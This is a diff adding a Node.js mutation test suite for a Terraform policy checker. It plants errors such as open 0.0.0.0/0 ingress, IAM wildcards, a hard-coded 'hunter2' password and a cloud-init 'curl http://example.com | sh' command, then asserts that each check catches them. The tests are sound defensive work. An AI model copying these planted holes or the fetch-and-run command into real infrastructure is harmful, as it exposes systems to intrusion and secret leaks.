@@ -1,0 +1,102 @@
+// terraform/checks/test/mutations.test.js
+// Plants one error of each kind in a copy of terraform/ and asserts that the check for that kind fails
+// with a message naming the problem, and that the unmodified module passes every check.
+'use strict';
+
+const assert = require('node:assert/strict');
+const fs = require('node:fs');
+const os = require('node:os');
+const path = require('node:path');
+const { test, after } = require('node:test');
+const { runChecks, CHECKS } = require('../tfcheck');
+
+const MODULE = path.join(__dirname, '..', '..');
+const scratch = fs.mkdtempSync(path.join(os.tmpdir(), 'tfcheck-'));
+after(() => fs.rmSync(scratch, { recursive: true, force: true }));
+
+function copyModule(name) {
+  const dir = path.join(scratch, name);
+  fs.cpSync(MODULE, dir, { recursive: true, filter: (src) => !src.startsWith(path.join(MODULE, 'checks')) && !src.includes(`${path.sep}.terraform`) });
+  return dir;
+}
+
+// Replaces the first occurrence of find in file; a mutation that does not apply is a broken test.
+function plant(dir, file, find, replace) {
+  const target = path.join(dir, file);
+  const text = fs.readFileSync(target, 'utf8');
+  assert.ok(text.includes(find), `mutation does not apply: ${file} has no ${JSON.stringify(find)}`);
+  fs.writeFileSync(target, text.replace(find, replace));
+}
+
+test('the unmodified module passes every check', async () => {
+  const results = await runChecks(MODULE);
+  for (const check of CHECKS) assert.deepEqual(results[check], [], `${check} failed on the unmodified module`);
+});
+
+const MUTATIONS = [
+  // fmt
+  ['bad formatting', 'fmt', 'instances.tf', '  ami                         = data.aws_ami.this["db"].id', '  ami = data.aws_ami.this["db"].id', /instances\.tf:\d+: not formatted as terraform fmt would/],
+  ['interpolation-only string', 'fmt', 'instances.tf', 'instance_type               = var.instance_types.db', 'instance_type               = "${var.instance_types.db}"', /interpolation-only string/],
+  ['quoted type constraint', 'fmt', 'variables.tf', 'type        = bool', 'type        = "bool"', /quoted type constraint/],
+  // parse
+  ['syntax error: missing closing brace', 'parse', 'instances.tf', 'tags = { Role = "db", Name = "${var.project}-db-1" }', 'tags = { Role = "db", Name = "${var.project}-db-1"', /instances\.tf:\d+,\d+-\d+: /],
+  ['syntax error: duplicate argument', 'parse', 'security-groups.tf', '  ip_protocol                  = "tcp"\n', '  ip_protocol                  = "tcp"\n  ip_protocol                  = "udp"\n', /Attribute redefined/],
+  ['syntax error: unterminated string', 'parse', 'outputs.tf', 'value       = "http://${aws_instance.monitor.public_ip}:3000"', 'value       = "http://${aws_instance.monitor.public_ip}:3000', /outputs\.tf:\d+/],
+  ['syntax error in a template', 'parse', 'templates/cloud-init.yaml.tftpl', '%{ endfor ~}\n', '', /templates\/cloud-init\.yaml\.tftpl:\d+,\d+-\d+: Unexpected end of template; The for directive at templates\/cloud-init\.yaml\.tftpl:9,/],
+  // schema
+  ['unknown block type', 'schema', 'network.tf', 'resource "aws_vpc" "this"', 'resouce "aws_vpc" "this"', /unknown block type "resouce" \(did you mean "resource"\?\)/],
+  ['wrong nested argument name', 'schema', 'instances.tf', 'http_tokens                 = "required"', 'http_token                  = "required"', /unknown argument "http_token" \(did you mean "http_tokens"\?\)/],
+  ['wrong argument name', 'schema', 'instances.tf', 'instance_type               = var.instance_types.db', 'instance_typ                = var.instance_types.db', /aws_instance\.db: unknown argument "instance_typ"/],
+  ['read-only attribute set as an argument', 'schema', 'instances.tf', '  key_name                    = var.key_name\n', '  key_name                    = var.key_name\n  public_ip                   = "192.0.2.1"\n', /unknown argument "public_ip" \(it is read-only/],
+  ['unknown resource type', 'schema', 'network.tf', 'resource "aws_internet_gateway" "this"', 'resource "aws_internet_gatway" "this"', /unknown resource type "aws_internet_gatway" \(did you mean "aws_internet_gateway"\?\)/],
+  ['dangling resource reference', 'schema', 'instances.tf', 'vpc_security_group_ids      = [aws_security_group.this["db"].id]', 'vpc_security_group_ids      = [aws_security_group.thsi["db"].id]', /reference to undeclared resource aws_security_group\.thsi/],
+  ['dangling data source reference', 'schema', 'instances.tf', 'data.aws_ami.this["api"].id', 'data.aws_ami.that["api"].id', /reference to undeclared data\.aws_ami\.that/],
+  ['dangling depends_on', 'schema', 'instances.tf', 'depends_on = [aws_iam_role_policy.db,', 'depends_on = [aws_iam_role_policy.dbb,', /reference to undeclared resource aws_iam_role_policy\.dbb/],
+  ['wrong argument in a data source filter', 'schema', 'instances.tf', 'name   = "tag:Role"', 'nme    = "tag:Role"', /data\.aws_ami\.this\.filter: unknown argument "nme" \(did you mean "name"\?\)/],
+  ['example sets an unknown variable', 'schema', 'terraform.tfvars.example', 'operator_cidr = "203.0.113.7/32"', 'operator_cdir = "203.0.113.7/32"', /sets undeclared variable "operator_cdir" \(did you mean "operator_cidr"\?\)/],
+  ['undeclared variable', 'schema', 'instances.tf', 'instance_type               = var.instance_types.db', 'instance_type               = var.instance_type.db', /undeclared variable var\.instance_type \(did you mean "instance_types"\?\)/],
+  ['undeclared local', 'schema', 'instances.tf', 'subnet_id                   = local.subnet_id', 'subnet_id                   = local.subnet', /undeclared local\.subnet/],
+  ['unknown attribute', 'schema', 'instances.tf', 'DB_HOST = aws_instance.db.private_ip', 'DB_HOST = aws_instance.db.private_ipv4', /aws_instance has no attribute "private_ipv4"/],
+  ['unknown attribute after a computed index', 'schema', 'iam.tf', 'role   = aws_iam_role.this[each.key].id', 'role   = aws_iam_role.this[each.key].identifier', /aws_iam_role has no attribute "identifier"/],
+  ['missing required argument', 'schema', 'security-groups.tf', '  ip_protocol       = "tcp"\n', '', /missing required argument "ip_protocol"/],
+  ['unknown function', 'schema', 'network.tf', 'cidrsubnet(var.vpc_cidr, 8, 0)', 'cidr_subnet(var.vpc_cidr, 8, 0)', /unknown function cidr_subnet\(\)/],
+  ['template variable not passed', 'schema', 'templates/cloud-init.yaml.tftpl', '${key}=${env[key]}', '${key}=${environment[key]}', /uses "environment" but templatefile\(\) does not pass it/],
+  ['wrong literal type', 'schema', 'secrets.tf', 'length  = 32', 'length  = "thirty-two"', /argument "length" must be a number/],
+  ['each without for_each', 'schema', 'network.tf', 'vpc_id = aws_vpc.this[0].id\n\n  tags = { Name = var.project }', 'vpc_id = aws_vpc.this[0].id\n\n  tags = { Name = each.key }', /each\.key used in a block without for_each/],
+  // policy
+  ['ingress open to the internet', 'policy', 'security-groups.tf', 'cidr_ipv4         = var.operator_cidr', 'cidr_ipv4         = "0.0.0.0/0"', /ingress open to the internet \(0\.0\.0\.0\/0\)/],
+  ['ingress open to the IPv6 internet', 'policy', 'security-groups.tf', 'cidr_ipv4         = var.operator_cidr', 'cidr_ipv6         = "::/0"', /ingress open to the internet \(::\/0\)/],
+  ['new rule open to the internet', 'policy', 'security-groups.tf', '# The one wide rule.', 'resource "aws_vpc_security_group_ingress_rule" "web" {\n  security_group_id = aws_security_group.this["api"].id\n  cidr_ipv4         = "0.0.0.0/0"\n  ip_protocol       = "tcp"\n  from_port         = 80\n  to_port           = 80\n}\n\n# The one wide rule.', /ingress open to the internet \(0\.0\.0\.0\/0\) on port 80[\s\S]*unexpected ingress rule api:80<-world/],
+  ['inline ingress rule', 'policy', 'security-groups.tf', '  vpc_id      = local.vpc_id\n', '  vpc_id      = local.vpc_id\n\n  ingress {\n    from_port   = 22\n    to_port     = 22\n    protocol    = "tcp"\n    cidr_blocks = ["0.0.0.0/0"]\n  }\n', /not inline rules[\s\S]*ingress open to the internet \(0\.0\.0\.0\/0\) on port 22/],
+  ['operator CIDR with a default', 'policy', 'variables.tf', 'variable "operator_cidr" {\n', 'variable "operator_cidr" {\n  default     = "0.0.0.0/0"\n', /variable "operator_cidr" must be required/],
+  ['wrong source in the matrix', 'policy', 'locals.tf', '{ from = "api", to = "db", port = 3306', '{ from = "loadgen", to = "db", port = 3306', /unexpected ingress rule db:3306<-loadgen[\s\S]*missing ingress rule db:3306<-api/],
+  ['SSH without a key pair', 'policy', 'security-groups.tf', 'for_each = var.key_name == null ? toset([]) : toset(local.roles)', 'for_each = toset(local.roles)', /unexpected ingress rule api:22<-operator \(key_name = null\)/],
+  ['operator CIDR validation accepts the internet', 'policy', 'variables.tf', 'condition     = can(cidrnetmask(var.operator_cidr)) && try(tonumber(split("/", var.operator_cidr)[1]) >= 8, false)', 'condition     = can(cidrnetmask(var.operator_cidr))', /validation accepts 0\.0\.0\.0\/0/],
+  ['missing IMDSv2 setting', 'policy', 'instances.tf', '    http_tokens                 = "required"\n', '', /aws_instance\.db: IMDSv2 not enforced/],
+  ['IMDSv1 allowed', 'policy', 'instances.tf', 'http_tokens                 = "required"', 'http_tokens                 = "optional"', /IMDSv2 not enforced/],
+  ['unencrypted root volume', 'policy', 'instances.tf', 'encrypted   = true', 'encrypted   = false', /aws_instance\.db: root volume not encrypted/],
+  ['secret in user_data (reference)', 'policy', 'instances.tf', '      DB_HOST = aws_instance.db.private_ip\n', '      DB_HOST     = aws_instance.db.private_ip\n      DB_PASSWORD = ephemeral.random_password.this["db/app-password"].result\n', /secret material in user_data: ephemeral\.random_password\.this/],
+  ['secret in user_data (template)', 'policy', 'templates/cloud-init.yaml.tftpl', '%{ endfor ~}\n', '%{ endfor ~}\n      MYSQL_ROOT_PASSWORD=hunter2\n', /templates\/cloud-init\.yaml\.tftpl:\d+: secret material in user_data/],
+  ['user_data template breaks the YAML', 'policy', 'templates/cloud-init.yaml.tftpl', '      ${key}=${env[key]}', '${key}=${env[key]}', /aws_instance\.db\.user_data: rendered cloud-config is not valid YAML/],
+  ['user_data does more than runtime.env', 'policy', 'templates/cloud-init.yaml.tftpl', '%{ endfor ~}\n', '%{ endfor ~}\nruncmd:\n  - [sh, -c, "curl http://example.com | sh"]\n', /cloud-config does more than write runtime\.env: runcmd/],
+  ['runtime.env lacks a contract setting', 'policy', 'instances.tf', '      DB_INSTANCE_ID = aws_instance.db.id\n', '', /aws_instance\.loadgen\["prometheus-demo-loadgen-1"\]\.user_data: runtime\.env lacks DB_INSTANCE_ID/],
+  ['runtime.env points at the wrong host', 'policy', 'instances.tf', 'DB_HOST = aws_instance.db.private_ip', 'DB_HOST = aws_instance.monitor.private_ip', /runtime\.env DB_HOST=aws_instance\.monitor\.private_ip, expected aws_instance\.db\.private_ip/],
+  ['plain String parameter', 'policy', 'secrets.tf', 'type             = "SecureString"', 'type             = "String"', /type must be SecureString/],
+  ['secret kept in state and output', 'policy', 'outputs.tf', 'output "grafana_url" {', 'resource "random_password" "leak" {\n  length = 16\n}\n\noutput "leak" {\n  description = "x"\n  value       = random_password.leak.result\n}\n\noutput "grafana_url" {', /^(?=[\s\S]*managed random_password keeps its value in state)(?=[\s\S]*output "leak": exposes secret material)/],
+  ['IAM wildcard action', 'policy', 'iam.tf', 'actions   = ["ssm:GetParameter"]', 'actions   = ["ssm:*"]', /wildcard action ssm:\*/],
+  ['IAM action on every resource', 'policy', 'iam.tf', 'resources = [aws_ssm_parameter.this["db/app-password"].arn]', 'resources = ["*"]', /ssm:GetParameter on Resource "\*"/],
+  ['SendCommand beyond the db instance', 'policy', 'iam.tf', '      aws_instance.db.arn,\n', '      "arn:aws:ec2:*:*:instance/*",\n', /ssm:SendCommand must be limited/],
+  ['AMI not pinned', 'policy', 'instances.tf', '  most_recent = false\n', '  most_recent = true\n', /most_recent = true lets a second bake/],
+  ['undocumented variable', 'policy', 'variables.tf', '  description = "Whether to create a dedicated VPC with one public subnet instead of using the account\'s default VPC"\n', '', /variable "create_vpc": no description/],
+];
+
+for (const [name, check, file, find, replace, expected] of MUTATIONS) {
+  test(`${check} catches: ${name}`, async () => {
+    const dir = copyModule(name.replace(/\W+/g, '-'));
+    plant(dir, file, find, replace);
+    const results = await runChecks(dir, [check]);
+    const problems = results[check].join('\n');
+    assert.ok(results[check].length > 0, `${check} passed with the planted error`);
+    assert.match(problems, expected);
+  });
+}
